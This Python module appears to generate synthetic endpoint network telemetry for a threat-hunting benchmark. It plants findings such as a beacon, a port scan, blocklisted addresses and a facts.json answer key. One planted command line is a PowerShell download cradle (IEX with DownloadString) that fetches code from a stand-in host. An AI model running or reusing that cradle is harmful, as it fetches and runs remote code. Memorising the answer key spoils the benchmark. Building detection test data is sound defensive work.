"""Made-up network events for the benchmark: `write(folder, rows, seed)`.

Thirty days of a company that does not exist: a few thousand devices, names by a power law, and things to find, which do
not depend on the number of rows: a rare name, a download on a command line, a beacon, a port scan, listed addresses.
Names end in `.example`, addresses outside are those of the documentation and benchmarking networks.
"""
import json
import os

import numpy as np
import pyarrow as pa
import pyarrow.compute
import pyarrow.parquet as pq

START_US = 1_759_276_800_000_000          # 2025-10-01
DAY_US = 86_400_000_000
DAYS = 30
BATCH = 131_072
DEVICES, USERS, NAMES, ADDRESSES = 3_000, 4_000, 150_000, 200_000
SYLLABLES = ("ka ro mi ten sol vex pra lin dor um bel ist nor qua zem ota fir gul hep jax "
             "cor dal ewin fost grim halo ivo juno kelp lumen moss nexu orbi pylo quin rift sage tarn ulti vale").split()
ACTIONS = ["ConnectionSuccess", "ConnectionFailed", "ConnectionAttempt", "ListeningConnectionCreated",
           "DnsConnectionInspected", "SslConnectionInspected", "HttpConnectionInspected", "InboundConnectionAccepted"]
ACTION_SHARE = [.56, .07, .05, .02, .12, .08, .06, .04]
PROCESSES = ["browser.exe", "svchost.exe", "powershell.exe", "mailer.exe", "teamtalk.exe", "updater.exe", "curl.exe",
             "backupd.exe", "python.exe", "sync.exe", "rundll32.exe", "officehub.exe"]
PORTS = [443, 80, 53, 445, 3389, 22, 8080, 135, 5985, 123]
PORT_SHARE = [.55, .12, .15, .04, .02, .02, .05, .02, .01, .02]


def words(random, count, ends):
    """`count` different names of syllables."""
    parts = np.array(SYLLABLES, dtype=object)
    picks = random.integers(0, len(parts), (count, 3))
    return [f"{parts[a]}{parts[b]}{parts[c]}{i % 97}{ends[i % len(ends)]}" for i, (a, b, c) in enumerate(picks)]


def hexadecimal(random, count, digits):
    table = np.frombuffer(b"0123456789abcdef", np.uint8)
    return [row.tobytes().decode() for row in table[random.integers(0, 16, (count, digits), np.uint8)]]


def by_rank(random, size, count, power):
    """Indices below `count`, small ones often."""
    return np.minimum((count * random.random(size) ** power).astype(np.int64), count - 1)


class Company:
    def __init__(self, random):
        hosts = words(random, DEVICES, ["-ws", "-srv", "-lap"])
        self.device_name = pa.array([f"{name}-{i:04}.corp.example" for i, name in enumerate(hosts)])
        self.device_id = pa.array(hexadecimal(random, DEVICES, 40))
        self.device_ip = pa.array([f"10.{20 + i // 60_000}.{i // 250 % 240}.{i % 250 + 2}" for i in range(DEVICES)])
        self.user = pa.array([f"user{i:05}" for i in range(USERS)])
        names = words(random, NAMES, [".example", ".cdn.example", ".shop.example", ".api.example"])
        odd = np.frombuffer(b"abcdefghijklmnopqrstuvwxyz0123456789", np.uint8)
        odd = odd[random.integers(0, 36, (600, 14), np.uint8)]
        names[-600:] = [f"{row.tobytes().decode()}.{('xyz', 'top', 'club')[i % 3]}" for i, row in enumerate(odd)]
        self.name = pa.array([""] + names)
        outside = [f"198.{18 + i // 65_536 % 2}.{i // 256 % 256}.{i % 256}" for i in range(ADDRESSES)]
        inside = [f"10.{i // 65_536}.{i // 256 % 256}.{i % 256}" for i in range(40_000)]
        inside += [f"192.168.{i // 256}.{i % 256}" for i in range(5_000)]
        self.outside, self.inside = len(outside), len(inside)
        self.address = pa.array(outside + inside)
        self.sha1 = pa.array(hexadecimal(random, 400, 40))
        self.sha256 = pa.array(hexadecimal(random, 400, 64))
        self.md5 = pa.array(hexadecimal(random, 400, 32))
        self.command = [f'"C:\\Program Files\\{p[:-4]}\\{p}" --profile {{}} --session {{}}' for p in PROCESSES]
        self.query = pa.array([f"host{i}.{self.name[1 + i * 7 % NAMES].as_py()}" for i in range(20_000)])


def batch(company, random, first_us, last_us, rows):
    """Rows of a span of time in the order of arrival."""
    arrival = np.sort(random.integers(first_us, last_us, rows))
    time = arrival - random.exponential(20_000_000, rows).astype(np.int64)
    device = by_rank(random, rows, DEVICES, 1.6)
    process = by_rank(random, rows, len(PROCESSES), 2.2)
    action = random.choice(len(ACTIONS), rows, p=ACTION_SHARE)
    port = random.choice(PORTS, rows, p=PORT_SHARE)
    private = (random.random(rows) < .25) | np.isin(port, [445, 3389, 5985, 135])
    address = np.where(private, company.outside + by_rank(random, rows, company.inside, 3),
                       by_rank(random, rows, company.outside, 5))
    name = np.where(private | (random.random(rows) < .2), 0, 1 + by_rank(random, rows, NAMES, 6))
    file = (process * 31 + by_rank(random, rows, 12, 2)) % 400
    user = (device * 7 + by_rank(random, rows, 3, 3)) % USERS
    take = lambda values, index: values.take(pa.array(index))
    text = lambda values, index: pa.array(values).take(pa.array(index))
    sessions = random.integers(0, 2_000, rows)
    command = [company.command[p].format(f"p{u % 50}", s) for p, u, s in zip(process, user, sessions)]
    pick = random.integers(0, len(company.query), rows)
    queries = company.query.take(pa.array(pick)).to_pylist()
    answer = np.where(random.random(rows) < .08, 1, 0)
    fields = [f'{{"query":"{q}","rcode_name":"{("NOERROR", "NXDOMAIN")[r]}","rtt":{i % 90}}}' if a == 4
              else (f'{{"method":"GET","status":{200 + i % 5}}}' if a == 6 else "")
              for i, (a, q, r) in enumerate(zip(action, queries, answer))]
    stamp = pa.timestamp("us", tz="UTC")
    columns = {
        "Timestamp": pa.array(time, stamp),
        "DeviceId": take(company.device_id, device),
        "DeviceName": take(company.device_name, device),
        "ActionType": text(ACTIONS, action),
        "RemoteIP": take(company.address, address),
        "RemotePort": pa.array(port.astype(np.int32)),
        "RemoteUrl": take(company.name, name),
        "LocalIP": take(company.device_ip, device),
        "LocalPort": pa.array(random.integers(49_152, 65_535, rows).astype(np.int32)),
        "Protocol": text(["Tcp", "Udp"], (port == 53).astype(np.int64)),
        "LocalIPType": text(["Private"], np.zeros(rows, np.int64)),
        "RemoteIPType": text(["Public", "Private"], private.astype(np.int64)),
        "InitiatingProcessSHA1": take(company.sha1, file),
        "InitiatingProcessSHA256": take(company.sha256, file),
        "InitiatingProcessMD5": take(company.md5, file),
        "InitiatingProcessFileName": text(PROCESSES, process),
        "InitiatingProcessFileSize": pa.array(file * 4_096 + 70_000),
        "InitiatingProcessVersionInfoCompanyName": text([f"Vendor {i}" for i in range(40)], file % 40),
        "InitiatingProcessId": pa.array(random.integers(400, 20_000, rows)),
        "InitiatingProcessCommandLine": pa.array(command),
        "InitiatingProcessCreationTime": pa.array(time - random.integers(0, DAY_US, rows), stamp),
        "InitiatingProcessFolderPath": text([f"c:\\program files\\{p[:-4]}\\{p}" for p in PROCESSES], process),
        "InitiatingProcessParentFileName": text(["explorer.exe", "services.exe"], process % 2),
        "InitiatingProcessParentId": pa.array(random.integers(400, 20_000, rows)),
        "InitiatingProcessAccountDomain": text(["corp"], np.zeros(rows, np.int64)),
        "InitiatingProcessAccountName": take(company.user, user),
        "InitiatingProcessIntegrityLevel": text(["Medium", "High", "System"], process % 3),
        "ReportId": pa.array(random.integers(1, 2**40, rows)),
        "AdditionalFields": pa.array(fields),
    }
    return pa.table(columns)


def planted(company, like):
    """Rows that are there at every size, in the columns of `like`."""
    end = START_US + DAYS * DAY_US
    rows = []
    plant = lambda time, device, **cells: rows.append(dict(Timestamp=time, device=device, **cells))
    for i in range(5):
        plant(START_US + (4 + 5 * i) * DAY_US, 100 + i, RemoteUrl="cdn7.evilrelay.example", RemoteIP="203.0.113.77")
    for i in range(12):
        plant(START_US + (2 + 2 * i) * DAY_US, 200 + i, InitiatingProcessFileName="powershell.exe",
              InitiatingProcessCommandLine="powershell -c IEX (New-Object Net.WebClient).DownloadString('http://stage.example/a')")
    for i in range(7 * 288):
        plant(end - 7 * DAY_US + i * 300_000_000 + i * 7_919 % 5_000_000, 300, RemoteUrl="sync-telemetry.example",
              RemoteIP="203.0.113.9", InitiatingProcessFileName="rundll32.exe")
    for i in range(240 * 3):
        plant(end - 3 * DAY_US + i * 1_600_000, 400, ActionType="ConnectionFailed", RemoteIPType="Private",
              RemoteIP=f"10.77.3.{i // 3 + 1}", RemotePort=[445, 3389, 5985][i % 3])
    for i in range(14):
        plant(START_US + (1 + 2 * i) * DAY_US, 500 + i, RemoteIP=f"192.0.2.{i % 7 + 1}")
    defaults = dict(ActionType="ConnectionSuccess", RemotePort=443, RemoteUrl="", RemoteIPType="Public", LocalPort=50_000,
                    Protocol="Tcp", InitiatingProcessFileName="svchost.exe", InitiatingProcessCommandLine="svchost.exe")
    blank = like.slice(0, 1).to_pylist()[0]
    rows.sort(key=lambda row: row["Timestamp"])
    full = []
    for row in rows:
        device = row.pop("device")
        ids = dict(DeviceId=company.device_id[device].as_py(), DeviceName=company.device_name[device].as_py(),
                   LocalIP=company.device_ip[device].as_py(), AdditionalFields="")
        full.append(blank | defaults | ids | row)
    lists = {name: [row[name] for row in full] for name in like.column_names}
    return pa.table({name: pa.array(lists[name]).cast(like.schema.field(name).type) for name in like.column_names})


def write(folder, rows, seed=1):
    """Writes events.parquet, devices.parquet and facts.json; returns the facts."""
    os.makedirs(folder, exist_ok=True)
    random = np.random.default_rng(seed)
    company = Company(random)
    path = os.path.join(folder, "events.parquet")
    writer, done, extra = None, 0, None
    while done < rows:
        count = min(BATCH, rows - done)
        span = lambda at: START_US + DAYS * DAY_US * at // rows
        table = batch(company, random, span(done), span(done + count) + 1, count)
        if writer is None:
            writer = pq.ParquetWriter(path + ".part", table.schema, compression="zstd")
            extra = planted(company, table)
        last = span(done + count) if done + count < rows else START_US + 2 * DAYS * DAY_US
        due = pa.compute.less(extra["Timestamp"].cast(pa.int64()), last)
        table = pa.concat_tables([table, extra.filter(due)])
        extra = extra.filter(pa.compute.invert(due))
        writer.write_table(table, row_group_size=2 * BATCH)
        done += count
    writer.close()
    os.replace(path + ".part", path)
    groups = ["Default", "VIP", "Servers", "Lab"]
    devices = pa.table({
        "Timestamp": pa.array(np.full(DEVICES, START_US), pa.timestamp("us", tz="UTC")),
        "DeviceId": company.device_id, "DeviceName": company.device_name,
        "OSPlatform": pa.array([("Windows11", "WindowsServer2022", "Linux")[i % 3] for i in range(DEVICES)]),
        "MachineGroup": pa.array([groups[i % 4] for i in range(DEVICES)]),
        "IsInternetFacing": pa.array([i % 50 == 0 for i in range(DEVICES)]),
    })
    pq.write_table(devices, os.path.join(folder, "devices.parquet"))
    listed = [f"192.0.2.{i}" for i in range(1, 8)] + [f"198.51.100.{i % 256}" for i in range(256)]
    listed += [f"203.0.{i // 250 + 114}.{i % 250}" for i in range(737)]
    facts = dict(addresses=listed, names=["evilrelay.example"] + [f"bad{i}.sinkhole.example" for i in range(49)],
                 device=company.device_name[300].as_py(), address="192.0.2.3")
    json.dump(facts, open(os.path.join(folder, "facts.json"), "w"))
    return facts
